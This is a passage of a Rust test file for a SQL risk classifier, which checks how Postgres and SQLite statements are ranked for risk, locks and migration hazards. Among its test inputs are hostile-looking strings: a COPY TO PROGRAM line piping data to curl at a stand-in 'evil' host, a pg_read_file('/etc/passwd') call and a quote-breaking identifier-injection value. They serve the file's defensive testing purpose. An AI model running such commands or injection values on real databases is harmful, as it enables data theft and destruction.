use super::*;

fn pg(sql: &str) -> Analysis {
    Analyzer::default().analyze(Engine::Postgres, sql)
}

fn lite(sql: &str) -> Analysis {
    Analyzer::default().analyze(Engine::Sqlite, sql)
}

fn rules(a: &Analysis) -> Vec<&'static str> {
    a.findings().iter().map(|f| f.rule).collect()
}

#[test]
fn plain_diagnostics_are_read_only_with_access_share() {
    for sql in [
        "SELECT 1",
        "SELECT state, count(*) FROM pg_stat_activity GROUP BY 1 ORDER BY 2 DESC",
        "SELECT pid, now() - xact_start AS age FROM pg_stat_activity WHERE state = 'idle in transaction'",
        "SELECT relname, pg_size_pretty(pg_total_relation_size(relid)) FROM pg_stat_user_tables",
        "WITH w AS (SELECT pid FROM pg_locks WHERE NOT granted) SELECT count(*) FROM w",
        "SELECT pid, pg_blocking_pids(pid) FROM pg_stat_activity WHERE cardinality(pg_blocking_pids(pid)) > 0;",
        "SELECT a.x FROM (SELECT 1 AS x) a JOIN LATERAL (SELECT 2) b ON true",
    ] {
        let a = pg(sql);
        assert_eq!(
            a.risk,
            Risk::ReadOnly,
            "{sql}: {:?}",
            a.statements[0].reasons
        );
        assert_eq!(a.statements[0].kind, "select", "{sql}");
        assert_eq!(a.lock(), Some(LockMode::AccessShare), "{sql}");
        assert!(a.statements[0].blocks.is_empty());
    }
}

#[test]
fn show_and_explain_of_a_plain_select_are_read_only() {
    assert_eq!(pg("SHOW max_connections").risk, Risk::ReadOnly);
    let a = pg("EXPLAIN SELECT * FROM orders WHERE id = 1");
    assert_eq!(
        (a.risk, a.statements[0].kind.as_str(), a.lock()),
        (Risk::ReadOnly, "explain", Some(LockMode::AccessShare))
    );
}

#[test]
fn plain_explain_is_as_risky_as_the_statement_it_plans() {
    let a = pg("EXPLAIN DELETE FROM orders WHERE id = 1");
    assert_eq!(
        (a.risk, a.statements[0].kind.as_str(), a.lock()),
        (Risk::Write, "explain", Some(LockMode::RowExclusive))
    );
    let a = pg("EXPLAIN DELETE FROM orders");
    assert_eq!(a.risk, Risk::Destructive);
    assert_eq!(rules(&a), vec!["unbounded-write"]);
    let a = pg("EXPLAIN SELECT public.lying_immutable()");
    assert_eq!(a.risk, Risk::Unknown, "{:?}", a.statements[0].reasons);
    assert_eq!(a.statements[0].kind, "explain");
}

#[test]
fn side_effecting_functions_called_from_select_are_not_read_only() {
    let cases = [
        ("SELECT pg_terminate_backend(123)", Risk::Write),
        (
            "SELECT pg_cancel_backend(pid) FROM pg_stat_activity",
            Risk::Write,
        ),
        (
            "SELECT set_config('work_mem', '1GB', false)",
            Risk::Privilege,
        ),
        ("SELECT nextval('orders_id_seq')", Risk::Write),
        ("SELECT setval('orders_id_seq', 1)", Risk::Schema),
        ("SELECT pg_reload_conf()", Risk::Write),
        ("SELECT lo_unlink(1234)", Risk::Destructive),
        ("SELECT pg_drop_replication_slot('s')", Risk::Destructive),
        (
            "SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
            Risk::Unknown,
        ),
        ("SELECT pg_read_file('/etc/passwd')", Risk::Privilege),
        ("SELECT my_schema.do_things()", Risk::Unknown),
        (
            "SELECT x FROM t WHERE y = (SELECT pg_catalog.pg_terminate_backend(1))",
            Risk::Write,
        ),
    ];
    for (sql, risk) in cases {
        let a = pg(sql);
        assert_eq!(a.risk, risk, "{sql}: {:?}", a.statements[0].reasons);
    }
}

#[test]
fn statements_listed_as_never_read_only_are_never_read_only() {
    for sql in [
        "SELECT * FROM orders WHERE id = 1 FOR UPDATE",
        "SELECT * FROM orders FOR SHARE SKIP LOCKED",
        "SELECT * FROM (SELECT * FROM orders FOR NO KEY UPDATE) s",
        "SELECT * FROM orders FOR KEY SHARE",
        "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
        "WITH u AS (UPDATE orders SET x = 1 WHERE id = 2 RETURNING id) SELECT count(*) FROM u",
        "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
        "EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET x = 1 WHERE id = 1",
        "COPY orders FROM '/tmp/x.csv'",
        "COPY orders FROM STDIN",
        "COPY orders TO PROGRAM 'curl http://evil'",
        "COPY (SELECT pg_terminate_backend(1)) TO STDOUT",
        "DO $$ BEGIN DELETE FROM orders; END $$",
        "CALL cleanup()",
        "SET ROLE postgres",
        "SET SESSION AUTHORIZATION postgres",
        "SET statement_timeout = 0",
        "SELECT 1; DROP TABLE orders",
        "SELECT 1; SELECT 2",
        "SELECT * INTO new_orders FROM orders",
        "SELECT nextval('s')",
        "SELECT random_user_function()",
        "BEGIN",
        "LOCK TABLE orders",
        "VACUUM orders",
        "ANALYZE orders",
        "PREPARE p AS DELETE FROM orders",
        "EXECUTE p",
    ] {
        let a = pg(sql);
        assert_ne!(a.risk, Risk::ReadOnly, "{sql} was read_only");
    }
}

#[test]
fn text_in_literals_identifiers_and_comments_never_changes_the_class() {
    for sql in [
        "SELECT 'DROP TABLE orders; FOR UPDATE' AS s",
        "SELECT \"pg_terminate_backend\" FROM (SELECT 1 AS \"pg_terminate_backend\") t",
        "SELECT 1 -- ; DELETE FROM orders",
        "SELECT 1 /* FOR UPDATE; insert into x */",
        "SELECT $$ ; UPDATE orders SET x = 1 $$",
        "SELECT E'\\'; DELETE FROM t' AS s",
        "SELECT 'nextval(''x'')'",
        "SELECT 1 AS \"update\", 2 AS \"share\", 'analyze' AS into_",
    ] {
        let a = pg(sql);
        assert_eq!(
            a.risk,
            Risk::ReadOnly,
            "{sql}: {:?}",
            a.statements[0].reasons
        );
        assert_eq!(a.statements.len(), 1, "{sql}");
    }
}

#[test]
fn writes_take_row_exclusive_and_do_not_block_reads_or_writes() {
    for (sql, kind) in [
        ("INSERT INTO orders (id) VALUES (1)", "insert"),
        ("UPDATE orders SET status = 'x' WHERE id = 1", "update"),
        ("DELETE FROM orders WHERE id = 1", "delete"),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = s.x",
            "merge",
        ),
    ] {
        let a = pg(sql);
        assert_eq!(
            (a.risk, a.statements[0].kind.as_str()),
            (Risk::Write, kind),
            "{sql}"
        );
        assert_eq!(a.lock(), Some(LockMode::RowExclusive));
        assert!(a.statements[0].blocks.is_empty());
    }
}

#[test]
fn update_or_delete_without_where_is_destructive_with_a_finding() {
    for sql in ["DELETE FROM orders", "UPDATE orders SET x = 1"] {
        let a = pg(sql);
        assert_eq!(a.risk, Risk::Destructive, "{sql}");
        assert_eq!(rules(&a), vec!["unbounded-write"]);
    }
}

#[test]
fn ddl_kinds_risks_and_locks() {
    use LockMode::*;
    let cases: &[(&str, &str, Risk, Option<LockMode>)] = &[
        (
            "CREATE INDEX idx ON orders (customer_id)",
            "create_index",
            Risk::Schema,
            Some(Share),
        ),
        (
            "CREATE INDEX CONCURRENTLY idx ON orders (customer_id)",
            "create_index",
            Risk::Schema,
            Some(ShareUpdateExclusive),
        ),
        (
            "DROP INDEX idx",
            "drop_index",
            Risk::Schema,
            Some(AccessExclusive),
        ),
        (
            "DROP INDEX CONCURRENTLY idx",
            "drop_index",
            Risk::Schema,
            Some(ShareUpdateExclusive),
        ),
        (
            "DROP TABLE orders",
            "drop_table",
            Risk::Destructive,
            Some(AccessExclusive),
        ),
        (
            "DROP SCHEMA app CASCADE",
            "drop_schema",
            Risk::Destructive,
            Some(AccessExclusive),
        ),
        (
            "TRUNCATE orders",
            "truncate",
            Risk::Destructive,
            Some(AccessExclusive),
        ),
        (
            "ALTER TABLE orders ADD COLUMN note text",
            "alter_table_add_column",
            Risk::Schema,
            Some(AccessExclusive),
        ),
        (
            "ALTER TABLE orders DROP COLUMN note",
            "alter_table_drop_column",
            Risk::Destructive,
            Some(AccessExclusive),
        ),
        (
            "ALTER TABLE orders ALTER COLUMN id TYPE bigint",
            "alter_table_alter_column_type",
            Risk::Schema,
            Some(AccessExclusive),
        ),
        (
            "ALTER TABLE orders ALTER COLUMN note SET NOT NULL",
            "alter_table_set_not_null",
            Risk::Schema,
            Some(AccessExclusive),
        ),
        (
            "ALTER TABLE orders VALIDATE CONSTRAINT c",
            "alter_table_validate_constraint",
            Risk::Schema,
            Some(ShareUpdateExclusive),
        ),
        (
            "ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (c) REFERENCES customers (id) NOT VALID",
            "alter_table_add_constraint",
            Risk::Schema,
            Some(ShareRowExclusive),
        ),
        (
            "ALTER TABLE orders SET (autovacuum_vacuum_scale_factor = 0.01)",
            "alter_table_set_storage_parameters",
            Risk::Schema,
            Some(ShareUpdateExclusive),
        ),
        (
            "ALTER TABLE orders OWNER TO bob",
            "alter_table_owner_to",
            Risk::Privilege,
            Some(AccessExclusive),
        ),
        (
            "ALTER TABLE orders RENAME COLUMN a TO b",
            "rename_column",
            Risk::Schema,
            Some(AccessExclusive),
        ),
        (
            "ALTER TABLE orders RENAME TO orders_old",
            "rename_table",
            Risk::Schema,
            Some(AccessExclusive),
        ),
        (
            "VACUUM (ANALYZE) orders",
            "vacuum",
            Risk::Write,
            Some(ShareUpdateExclusive),
        ),
        (
            "VACUUM FULL orders",
            "vacuum_full",
            Risk::Schema,
            Some(AccessExclusive),
        ),
        (
            "ANALYZE orders",
            "analyze",
            Risk::Write,
            Some(ShareUpdateExclusive),
        ),
        (
            "REINDEX INDEX CONCURRENTLY idx",
            "reindex",
            Risk::Schema,
            Some(ShareUpdateExclusive),
        ),
        (
            "REINDEX TABLE orders",
            "reindex",
            Risk::Schema,
            Some(AccessExclusive),
        ),
        (
            "CLUSTER orders USING idx",
            "cluster",
            Risk::Schema,
            Some(AccessExclusive),
        ),
        (
            "REFRESH MATERIALIZED VIEW mv",
            "refresh_materialized_view",
            Risk::Write,
            Some(AccessExclusive),
        ),
        (
            "REFRESH MATERIALIZED VIEW CONCURRENTLY mv",
            "refresh_materialized_view",
            Risk::Write,
            Some(Exclusive),
        ),
        (
            "LOCK TABLE orders IN SHARE MODE",
            "lock_table",
            Risk::Write,
            Some(Share),
        ),
        (
            "GRANT SELECT ON orders TO app",
            "grant",
            Risk::Privilege,
            None,
        ),
        (
            "REVOKE ALL ON orders FROM app",
            "revoke",
            Risk::Privilege,
            None,
        ),
        ("CREATE ROLE intern", "create_role", Risk::Privilege, None),
        (
            "ALTER SYSTEM SET work_mem = '1GB'",
            "alter_system",
            Risk::Privilege,
            None,
        ),
        (
            "DROP DATABASE app",
            "drop_database",
            Risk::Destructive,
            None,
        ),
        (
            "CREATE TABLE t (id bigint PRIMARY KEY)",
            "create_table",
            Risk::Schema,
            None,
        ),
        ("CHECKPOINT", "checkpoint", Risk::Write, None),
    ];
    for (sql, kind, risk, lock) in cases {
        let a = pg(sql);
        let st = &a.statements[0];
        assert_eq!(
            (st.kind.as_str(), st.risk, st.lock),
            (*kind, *risk, *lock),
            "{sql}: {:?}",
            st.reasons
        );
    }
}

#[test]
fn lock_modes_say_what_they_block() {
    assert_eq!(LockMode::AccessExclusive.blocks(), vec!["reads", "writes"]);
    assert_eq!(LockMode::Share.blocks(), vec!["writes"]);
    assert_eq!(LockMode::Exclusive.blocks(), vec!["writes"]);
    assert!(LockMode::ShareUpdateExclusive.blocks().is_empty());
    assert!(LockMode::RowExclusive.blocks().is_empty());
    assert_eq!(
        LockMode::parse("access exclusive"),
        Some(LockMode::AccessExclusive)
    );
    assert_eq!(
        LockMode::parse("SHARE_ROW_EXCLUSIVE"),
        Some(LockMode::ShareRowExclusive)
    );
    assert_eq!(LockMode::parse("nonsense"), None);
}

#[test]
fn every_finding_rule_fires_on_its_statement() {
    let cases: &[(&str, &str)] = &[
        (
            "CREATE INDEX idx ON orders (c)",
            "require-concurrent-index-creation",
        ),
        ("DROP INDEX idx", "require-concurrent-index-deletion"),
        ("REINDEX INDEX idx", "require-concurrent-reindex"),
        (
            "ALTER TABLE orders ADD CONSTRAINT c CHECK (x > 0)",
            "constraint-missing-not-valid",
        ),
        (
            "ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (c) REFERENCES cust (id)",
            "constraint-missing-not-valid",
        ),
        (
            "ALTER TABLE orders ADD CONSTRAINT u UNIQUE (email)",
            "disallowed-unique-constraint",
        ),
        (
            "ALTER TABLE orders ALTER COLUMN x TYPE bigint",
            "changing-column-type",
        ),
        (
            "ALTER TABLE orders ALTER COLUMN x SET NOT NULL",
            "set-not-null-scans-table",
        ),
        (
            "ALTER TABLE orders ADD COLUMN token uuid DEFAULT gen_random_uuid()",
            "adding-field-with-volatile-default",
        ),
        (
            "ALTER TABLE orders ADD COLUMN r float8 DEFAULT random()",
            "adding-field-with-volatile-default",
        ),
        (
            "ALTER TABLE orders ADD COLUMN n int NOT NULL",
            "adding-required-field",
        ),
        ("ALTER TABLE orders DROP COLUMN x", "ban-drop-column"),
        ("DROP TABLE orders", "ban-drop-table"),
        ("DROP DATABASE app", "ban-drop-database"),
        ("TRUNCATE orders", "ban-truncate"),
        ("ALTER TABLE orders RENAME COLUMN a TO b", "renaming-column"),
        ("ALTER TABLE orders RENAME TO o2", "renaming-table"),
        ("DELETE FROM orders", "unbounded-write"),
        ("VACUUM FULL orders", "table-rewrite"),
        ("CLUSTER orders", "table-rewrite"),
        ("VACUUM (FREEZE) orders", "vacuum-freeze"),
        ("VACUUM FREEZE VERBOSE orders", "vacuum-freeze"),
        (
            "REFRESH MATERIALIZED VIEW mv",
            "refresh-matview-blocks-reads",
        ),
        (
            "ALTER TABLE orders ADD COLUMN x int",
            "require-lock-timeout",
        ),
        ("SELECT 1; SELECT 2", "multiple-statements"),
        (
            "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
            "explain-analyze-executes",
        ),
        ("ALTER TABLE orders DISABLE TRIGGER ALL", "disable-trigger"),
        ("ALTER SEQUENCE orders_id_seq RESTART", "sequence-restart"),
        ("SELECT setval('orders_id_seq', 1)", "sequence-setval"),
        (
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            "unscoped-signal",
        ),
        (
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = $1",
            "multi-session-signal",
        ),
    ];
    for (sql, rule) in cases {
        let a = pg(sql);
        assert!(
            rules(&a).contains(rule),
            "{sql}: expected {rule}, got {:?}",
            rules(&a)
        );
    }
    let fired: std::collections::BTreeSet<&str> = cases.iter().map(|c| c.1).collect();
    for r in FINDING_RULES {
        assert!(fired.contains(r.id), "no test fires {}", r.id);
        assert!(!r.advice.is_empty());
    }
}

#[test]
fn safe_migration_forms_have_no_findings() {
    let an = Analyzer::new(AnalyzerOptions {
        lock_timeout_managed: true,
        ..Default::default()
    });
    for sql in [
        "CREATE INDEX CONCURRENTLY idx ON orders (c)",
        "DROP INDEX CONCURRENTLY idx",
        "ALTER TABLE orders ADD CONSTRAINT c CHECK (x > 0) NOT VALID",
        "ALTER TABLE orders VALIDATE CONSTRAINT c",
        "ALTER TABLE orders ADD COLUMN note text",
        "ALTER TABLE orders ADD COLUMN created timestamptz DEFAULT now()",
        "ALTER TABLE orders ADD COLUMN n int NOT NULL DEFAULT 0",
        "REINDEX INDEX CONCURRENTLY idx",
        "ALTER TABLE orders ADD CONSTRAINT u UNIQUE USING INDEX u_idx",
        "UPDATE orders SET x = 1 WHERE id BETWEEN 1 AND 1000",
    ] {
        let a = an.analyze(Engine::Postgres, sql);
        assert!(a.findings().is_empty(), "{sql}: {:?}", rules(&a));
    }
}

#[test]
fn lock_timeout_set_earlier_in_the_text_silences_the_finding() {
    let a = pg("SET lock_timeout = '2s'; ALTER TABLE orders ADD COLUMN x int");
    assert!(!rules(&a).contains(&"require-lock-timeout"));
    assert_eq!(
        a.risk,
        Risk::Unknown,
        "two statements are still one unknown step"
    );
}

#[test]
fn several_statements_are_unknown() {
    let a = pg("SELECT 1; SELECT 2");
    assert_eq!(a.risk, Risk::Unknown);
    assert_eq!(a.statements.len(), 2);
    assert_eq!(a.statements[0].risk, Risk::ReadOnly);
}

#[test]
fn sql_that_does_not_parse_is_unknown_with_a_position() {
    let a = pg("SELECT * FROMM orders");
    assert_eq!(a.risk, Risk::Unknown);
    let err = a.parse_error.expect("parse error");
    assert!(err.message.contains("syntax error"), "{}", err.message);
    assert_eq!(err.offset, Some(9));
    let a = pg("SELECT * FROM");
    assert_eq!(a.parse_error.and_then(|e| e.offset), Some(13));
    assert_eq!(pg("").risk, Risk::Unknown);
    assert_eq!(pg("SELECT '\0'").risk, Risk::Unknown);
}

#[test]
fn dba_daily_statements_parse_on_postgres() {
    for sql in [
        "REINDEX TABLE CONCURRENTLY orders",
        "CLUSTER orders USING orders_pkey",
        "REFRESH MATERIALIZED VIEW CONCURRENTLY mv",
        "VACUUM (ANALYZE, VERBOSE) orders",
        "DROP INDEX CONCURRENTLY IF EXISTS idx",
    ] {
        assert!(pg(sql).parse_error.is_none(), "{sql}");
    }
}

#[test]
fn risk_order_ranks_privilege_and_unknown_with_destructive() {
    assert!(Risk::ReadOnly.rank() < Risk::Write.rank());
    assert!(Risk::Write.rank() < Risk::Schema.rank());
    assert!(Risk::Schema.rank() < Risk::Destructive.rank());
    assert_eq!(Risk::Privilege.rank(), Risk::Destructive.rank());
    assert_eq!(Risk::Unknown.rank(), Risk::Destructive.rank());
    assert_eq!(Risk::Write.max(Risk::ReadOnly), Risk::Write);
    assert_eq!(Risk::Destructive.max(Risk::Unknown), Risk::Unknown);
}

#[test]
fn sqlite_statements_are_classified() {
    let cases: &[(&str, &str, Risk)] = &[
        ("SELECT count(*) FROM orders", "select", Risk::ReadOnly),
        (
            "SELECT name FROM sqlite_master WHERE type = 'table'",
            "select",
            Risk::ReadOnly,
        ),
        ("PRAGMA table_info('orders')", "pragma", Risk::ReadOnly),
        ("PRAGMA integrity_check", "pragma", Risk::ReadOnly),
        ("PRAGMA optimize", "pragma_set", Risk::Write),
        (
            "PRAGMA wal_checkpoint('TRUNCATE')",
            "pragma_set",
            Risk::Write,
        ),
        ("PRAGMA journal_mode = 'WAL'", "pragma_set", Risk::Write),
        ("INSERT INTO orders (id) VALUES (1)", "insert", Risk::Write),
        ("DELETE FROM orders", "delete", Risk::Destructive),
        ("CREATE INDEX i ON orders (c)", "create_index", Risk::Schema),
        ("DROP TABLE orders", "drop_table", Risk::Destructive),
        ("SELECT load_extension('x')", "select", Risk::Privilege),
        (
            "SELECT 1; DELETE FROM t WHERE id = 1",
            "select",
            Risk::Unknown,
        ),
    ];
    for (sql, kind, risk) in cases {
        let a = lite(sql);
        assert_eq!(
            (a.statements[0].kind.as_str(), a.risk),
            (*kind, *risk),
            "{sql}"
        );
    }
    assert_eq!(
        lite("DELETE FROM t WHERE id = 1").statements[0].blocks,
        vec!["writes"]
    );
    let bad = lite("SELEC 1");
    assert_eq!(bad.risk, Risk::Unknown);
    assert!(bad.parse_error.is_some());
}

#[test]
fn named_parameters_become_positional_and_skip_literals() {
    use params::{Substitution, rewrite, scan};
    let sql = "SELECT :a, ':b', \"c:d\", x::int, $$ :e $$, :a -- :f\n /* :g */ WHERE y = :h";
    let names: Vec<String> = scan(sql).into_iter().map(|p| p.name).collect();
    assert_eq!(names, vec!["a", "a", "h"]);
    let out = rewrite(sql, Engine::Postgres, |_| Some(Substitution::Bind)).expect("rewrite");
    assert_eq!(out.binds, vec!["a", "h"]);
    assert!(out.sql.starts_with("SELECT $1, ':b'"), "{}", out.sql);
    assert!(out.sql.ends_with("WHERE y = $2"), "{}", out.sql);
    let lite = rewrite("SELECT :a", Engine::Sqlite, |_| Some(Substitution::Bind)).expect("rewrite");
    assert_eq!(lite.sql, "SELECT ?1");
    let ident = rewrite("VACUUM :t", Engine::Postgres, |_| {
        Some(Substitution::Identifier("\"orders\"".into()))
    })
    .expect("rewrite");
    assert_eq!(ident.sql, "VACUUM \"orders\"");
    assert_eq!(
        rewrite("SELECT :nope", Engine::Postgres, |_| None).map_err(|p| p.name),
        Err("nope".to_string())
    );
}

#[test]
fn identifier_inputs_are_validated_and_quoted() {
    use params::quote_identifier;
    assert_eq!(quote_identifier("orders"), Ok("\"orders\"".into()));
    assert_eq!(
        quote_identifier("app.orders"),
        Ok("\"app\".\"orders\"".into())
    );
    for bad in ["", "a b", "x\"; DROP TABLE y; --", "1abc", "o'r"] {
        assert_eq!(
            quote_identifier(bad),
            Err(params::IdentifierError::NotPlain(bad.to_string())),
            "{bad}"
        );
    }
    assert_eq!(
        quote_identifier("a.b.c").map_err(|e| e.to_string()),
        Err("`a.b.c` has more than one dot; use name or schema.name".to_string())
    );
}

#[test]
fn keywords_glued_to_identifiers_do_not_hide_a_locking_clause() {
    // Words inside identifiers (last_analyze, ShareLock) take the fast path;
    // real keywords, however written, never do.
    for sql in [
        "SELECT * FROM t FOR/**/UPDATE",
        "SELECT * FROM t FOR\nUPDATE",
        "SELECT * FROM t for update",
        "SELECT * FROM t FOR\tSHARE",
        "SELECT * FROM (SELECT 1 FROM t FOR KEY SHARE) s",
        "SELECT 1 INTO TEMP x",
    ] {
        assert_ne!(pg(sql).risk, Risk::ReadOnly, "{sql}");
    }
    for sql in [
        "SELECT last_analyze, last_autoanalyze, n_mod_since_analyze FROM pg_stat_user_tables",
        "SELECT count(*) FILTER (WHERE mode = 'ShareLock') FROM pg_locks",
        "SELECT 1 AS updated_rows, 2 AS inserted",
    ] {
        assert_eq!(pg(sql).risk, Risk::ReadOnly, "{sql}");
    }
}

#[test]
fn fingerprints_identify_the_same_statement_with_other_values() {
    let a = fingerprint(Engine::Postgres, "SELECT pg_terminate_backend(42)");
    let b = fingerprint(Engine::Postgres, "select  pg_terminate_backend(7) -- again");
    let c = fingerprint(Engine::Postgres, "SELECT pg_cancel_backend(42)");
    assert!(a.is_some());
    assert_eq!(a, b);
    assert_ne!(a, c);
    assert_eq!(fingerprint(Engine::Postgres, "SELEC 1"), None);
    assert_eq!(
        fingerprint(Engine::Sqlite, "DELETE FROM t WHERE id = 1"),
        fingerprint(Engine::Sqlite, "delete from t where id = 1")
    );
}

#[test]
fn lock_words_say_what_waits_and_where() {
    assert_eq!(
        lock_words(Some("ACCESS EXCLUSIVE"), &["reads", "writes"], &["orders"]).as_deref(),
        Some("ACCESS EXCLUSIVE — blocks reads and writes to orders until done")
    );
    assert_eq!(
        lock_words(Some("SHARE"), &["writes", "writes"], &[]).as_deref(),
        Some("SHARE — blocks writes to the table until done")
    );
    assert_eq!(
        lock_words(Some("ROW EXCLUSIVE"), &[], &["a", "b"]).as_deref(),
        Some("ROW EXCLUSIVE — does not block ordinary reads or writes")
    );
    assert_eq!(
        lock_words(None, &["writes"], &["t"]).as_deref(),
        Some("blocks writes (database-wide write lock)")
    );
    assert_eq!(lock_words(None, &[], &[]), None);
    let a = pg("CREATE INDEX i ON orders (c)");
    let st = &a.statements[0];
    let tables: Vec<&str> = st.tables.iter().map(String::as_str).collect();
    assert_eq!(
        lock_words(st.lock.map(LockMode::name), &st.blocks, &tables).as_deref(),
        Some("SHARE — blocks writes to orders until done")
    );
}

/// The minimum a corpus line asks for.
fn meets(risk: Risk, want: &str) -> bool {
    let order = |r: Risk| match r {
        Risk::ReadOnly => 0,
        Risk::Write => 1,
        Risk::Schema => 2,
        Risk::Destructive => 3,
        Risk::Privilege => 4,
        Risk::Unknown => 5,
    };
    match want {
        "not_read_only" => risk != Risk::ReadOnly,
        w => match w.strip_prefix('=') {
            Some(exact) => risk.name() == exact,
            None => Risk::parse(w).is_some_and(|min| order(risk) >= order(min)),
        },
    }
}

#[test]
fn adversarial_corpus_gets_at_least_its_class() {
    let corpus = include_str!("adversarial.txt");
    let mut failures = Vec::new();
    let mut count = 0;
    for (n, line) in corpus.lines().enumerate() {
        if line.trim().is_empty() || line.starts_with('#') {
            continue;
        }
        let (spec, sql) = line.split_once('\t').expect("CLASS<TAB>SQL");
        let (spec, server) = match spec.split_once('@') {
            Some((s, v)) => (s, Some(v.parse::<u32>().expect("version"))),
            None => (spec, None),
        };
        // CLASS, then +rule / -rule marks.
        let cut = spec[1..].find(['+', '-']).map_or(spec.len(), |i| i + 1);
        let class = &spec[..cut];
        // Each mark is a sign and the finding id that follows it.
        let mut marks = Vec::new();
        let mut rest = &spec[cut..];
        while let Some(sign) = rest.chars().next() {
            let body = &rest[1..];
            let rule = FINDING_RULES
                .iter()
                .map(|r| r.id)
                .filter(|id| body.starts_with(id))
                .max_by_key(|id| id.len())
                .unwrap_or_else(|| panic!("line {}: no finding at {body}", n + 1));
            marks.push((sign, rule));
            rest = &body[rule.len()..];
        }
        let an = Analyzer::new(AnalyzerOptions {
            server: server.map(|v| ServerFacts {
                version_num: v,
                ..Default::default()
            }),
            ..Default::default()
        });
        let a = an.analyze(Engine::Postgres, sql);
        count += 1;
        let got = rules(&a);
        let mut ok = meets(a.risk, class);
        for (sign, rule) in &marks {
            assert!(
                FINDING_RULES.iter().any(|r| r.id == *rule),
                "line {}: unknown rule {rule}",
                n + 1
            );
            ok &= (*sign == '+') == got.contains(rule);
        }
        if !ok {
            failures.push(format!(
                "line {}: {sql}\n  wanted {spec}, got {} {:?} {:?}",
                n + 1,
                a.risk,
                got,
                a.statements
                    .iter()
                    .flat_map(|s| &s.reasons)
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(count >= 150, "the corpus has only {count} statements");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn quoted_schema_names_are_not_folded_into_pg_catalog() {
    let a = pg("SELECT \"PG_CATALOG\".now()");
    assert_eq!(a.risk, Risk::Unknown, "{:?}", a.statements[0].reasons);
    assert!(a.statements[0].reasons[0].contains("PG_CATALOG.now()"));
    assert_eq!(pg("SELECT pg_catalog.\"NOW\"()").risk, Risk::Unknown);
    assert_eq!(pg("SELECT \"pg_catalog\".now()").risk, Risk::ReadOnly);
    assert_eq!(pg("SELECT PG_CATALOG.NOW()").risk, Risk::ReadOnly);
}

#[test]
fn function_effect_compares_postgres_names_exactly_and_sqlite_names_without_case() {
    let an = Analyzer::default();
    assert_eq!(
        an.function_effect(Engine::Postgres, Some("pg_catalog"), "now"),
        FunctionEffect::Pure
    );
    assert_eq!(
        an.function_effect(Engine::Postgres, Some("PG_CATALOG"), "now"),
        FunctionEffect::Unlisted
    );
    assert_eq!(
        an.function_effect(Engine::Postgres, None, "NOW"),
        FunctionEffect::Unlisted
    );
    assert_eq!(
        an.function_effect(Engine::Sqlite, None, "UPPER"),
        FunctionEffect::Pure
    );
}

#[test]
fn pure_functions_match_only_the_exact_qualified_name() {
    let mut options = AnalyzerOptions::default();
    options
        .pure_functions
        .insert("reporting.order_totals".into());
    let an = Analyzer::new(options);
    let risk = |sql: &str| an.analyze(Engine::Postgres, sql).risk;
    assert_eq!(risk("SELECT reporting.order_totals()"), Risk::ReadOnly);
    assert_eq!(risk("SELECT \"reporting\".order_totals()"), Risk::ReadOnly);
    assert_eq!(risk("SELECT REPORTING.ORDER_TOTALS()"), Risk::ReadOnly);
    assert_eq!(risk("SELECT \"Reporting\".order_totals()"), Risk::Unknown);
    assert_eq!(risk("SELECT reporting.\"Order_Totals\"()"), Risk::Unknown);
    assert_eq!(risk("SELECT order_totals()"), Risk::Unknown);
}

#[test]
fn sql_json_syntax_is_unknown_unless_the_server_parses_it_as_syntax() {
    let with = |v: Option<u32>, sql: &str| {
        Analyzer::new(AnalyzerOptions {
            server: v.map(|version_num| ServerFacts {
                version_num,
                ..Default::default()
            }),
            ..Default::default()
        })
        .analyze(Engine::Postgres, sql)
    };
    let a = with(None, "SELECT json_scalar(1)");
    assert_eq!(a.risk, Risk::Unknown);
    assert!(
        a.statements[0]
            .reasons
            .iter()
            .any(|r| r.contains("json_scalar")),
        "{:?}",
        a.statements[0].reasons
    );
    assert_eq!(
        with(Some(150004), "SELECT json_scalar(1)").risk,
        Risk::Unknown
    );
    assert_eq!(
        with(Some(170002), "SELECT json_scalar(1)").risk,
        Risk::ReadOnly
    );
    assert_eq!(
        with(Some(150004), "SELECT json_array(1)").risk,
        Risk::Unknown
    );
    assert_eq!(
        with(Some(160001), "SELECT json_array(1)").risk,
        Risk::ReadOnly
    );
    assert_eq!(
        with(Some(160001), "SELECT json_value('{}', '$')").risk,
        Risk::Unknown
    );
    // Syntax on a new server still has its arguments checked.
    assert_eq!(
        with(Some(170002), "SELECT json_scalar(pg_terminate_backend(1))").risk,
        Risk::Write
    );
    // The legacy json_object(text[]) is an ordinary pg_catalog function.
    assert_eq!(
        with(None, "SELECT json_object('{a,1}')").risk,
        Risk::ReadOnly
    );
}

#[test]
fn select_into_in_any_arm_of_a_set_operation_creates_a_table() {
    for sql in [
        "SELECT 1 AS a INTO t UNION SELECT 2",
        "SELECT 1 AS a INTO t UNION ALL SELECT 2 EXCEPT SELECT 3",
        "(SELECT 1 AS a INTO t) INTERSECT SELECT 1",
    ] {
        let a = pg(sql);
        assert_eq!(
            (a.risk, a.statements[0].kind.as_str()),
            (Risk::Schema, "select_into"),
            "{sql}"
        );
    }
}

#[test]
fn functions_that_evaluate_arbitrary_sql_or_objects_are_not_read_only() {
    for sql in [
        "SELECT query_to_xml('SELECT 1', true, false, '')",
        "SELECT table_to_xml('v', true, false, '')",
        "SELECT schema_to_xml('public', true, false, '')",
        "SELECT database_to_xmlschema(true, false, '')",
        "SELECT cursor_to_xml('c', 1, true, false, '')",
        "SELECT * FROM ts_stat('SELECT v FROM t')",
    ] {
        let a = pg(sql);
        assert_eq!(a.risk, Risk::Unknown, "{sql}");
        assert!(
            a.statements[0]
                .reasons
                .iter()
                .any(|r| r.contains("evaluates arbitrary SQL/objects")),
            "{sql}: {:?}",
            a.statements[0].reasons
        );
    }
    assert_eq!(
        pg("SELECT pg_get_viewdef('pg_stat_activity'::regclass)").risk,
        Risk::ReadOnly
    );
}

#[test]
fn constant_true_where_clauses_are_unbounded_writes() {
    for sql in [
        "DELETE FROM orders WHERE true",
